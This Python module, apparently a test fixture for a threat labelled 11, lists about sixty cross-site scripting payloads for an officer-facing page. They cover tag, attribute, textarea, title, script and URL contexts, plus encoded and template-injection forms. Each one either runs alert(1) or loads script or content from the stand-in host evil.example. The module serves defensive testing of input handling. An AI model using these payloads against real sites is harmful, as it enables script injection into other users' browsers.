"""What somebody types so that it becomes a script on an officer's page: sixty ways (threat 11).

Each tries to open a dialog or to load something from evil.example, out of every place a text can stand in:
between tags, in an attribute of either quotation mark or none, in a textarea, a title, a script, an address.
"""

_DO = "alert(1)"
_AWAY = "//evil.example/x"

BETWEEN_TAGS = [
    f"<script>{_DO}</script>",
    f"<ScRiPt>{_DO}</sCrIpT>",
    f"<script src={_AWAY}></script>",
    f"<script/src={_AWAY}></script>",
    f"<img src=x onerror={_DO}>",
    f"<img src={_AWAY}.png>",
    f"<img/src=x/onerror={_DO}>",
    f"<IMG SRC=x oNeRrOr={_DO}>",
    f"<svg onload={_DO}>",
    f"<svg/onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><image href={_AWAY}></svg>",
    f"<math><mtext><img src=x onerror={_DO}></mtext></math>",
    f"<body onload={_DO}>",
    f"<iframe src=javascript:{_DO}>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'>",
    f"<iframe src={_AWAY}>",
    f"<object data={_AWAY}>",
    f"<embed src={_AWAY}>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}>",
    f"<textarea autofocus onfocus={_DO}>",
    f"<marquee onstart={_DO}>",
    f"<p style=animation-name:x onanimationstart={_DO}>",
    f"<style>@import '{_AWAY}';</style>",
    f"<link rel=stylesheet href={_AWAY}>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}>",
    f"<form action={_AWAY}><button autofocus>",
    f"<a href=javascript:{_DO} autofocus>x",
    f"<div hx-get={_AWAY} hx-trigger=load>",
    f"<div hx-on:load={_DO}>",
    f"<div data-hx-get={_AWAY} hx-trigger=load>",
    f"<noscript><img src=x onerror={_DO}></noscript>",
    f"<template><img src=x onerror={_DO}></template>",
    f"<![CDATA[<script>{_DO}</script>]]>",
    f"<!--><img src=x onerror={_DO}>-->",
    f"<x onclick={_DO} tabindex=1 autofocus onfocus={_DO}>",
]
OUT_OF_SOMETHING = [
    f'"><script>{_DO}</script>',
    f"'><script>{_DO}</script>",
    f'" autofocus onfocus={_DO} x="',
    f"' autofocus onfocus={_DO} x='",
    f"x onmouseover={_DO}",
    f"</textarea><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"</option></select><img src=x onerror={_DO}>",
    f"--><script>{_DO}</script>",
    f"javascript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"${{{_DO}}}",
    f"\\x3cscript\\x3e{_DO}\\x3c/script\\x3e",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={_DO}&#62;",
    f"＜script＞{_DO}＜/script＞",
    f"%3Cscript%3E{_DO}%3C/script%3E",
]
ALL = BETWEEN_TAGS + OUT_OF_SOMETHING
SHORT = [words for words in ALL if len(words) <= 40]  # where a field takes no more: an officer's name
